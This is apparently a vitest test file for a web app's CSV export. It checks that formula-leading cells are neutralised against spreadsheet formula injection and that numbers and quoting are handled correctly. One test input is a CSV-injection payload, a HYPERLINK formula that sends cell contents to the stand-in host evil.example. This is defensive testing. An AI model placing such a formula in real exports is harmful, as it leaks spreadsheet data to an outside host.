/**
 * The role pages' CSV exports (audit log, dashboard panels): what a spreadsheet reads. Text that
 * a spreadsheet would run as a formula — a caller's purpose header or a record's text lands in the
 * audit export — is written as text; quotes, commas and line breaks are quoted; numbers stay numbers.
 */
import { describe, expect, it } from "vitest";
import { csv } from "../../web/src/pages/csv.js";

const read = async (rows: (string | number | null)[][]) => (await csv(rows).text()).replace(/^\uFEFF/, "");

describe("csv", () => {
  it("writes formulas as text, whichever character starts them", async () => {
    const text = await read([['=HYPERLINK("https://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd"]]);
    expect(text).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""点此"")",'+1+1,'-2+3,'@SUM(A1),'\tcmd\r\n`);
  });

  it("keeps numbers, negative ones too, and quotes what needs quoting", async () => {
    expect(await read([[-12.5, "-3", 42, null, "甲,乙", "一行\n两行"]])).toBe(`-12.5,-3,42,,"甲,乙","一行\n两行"\r\n`);
  });
});
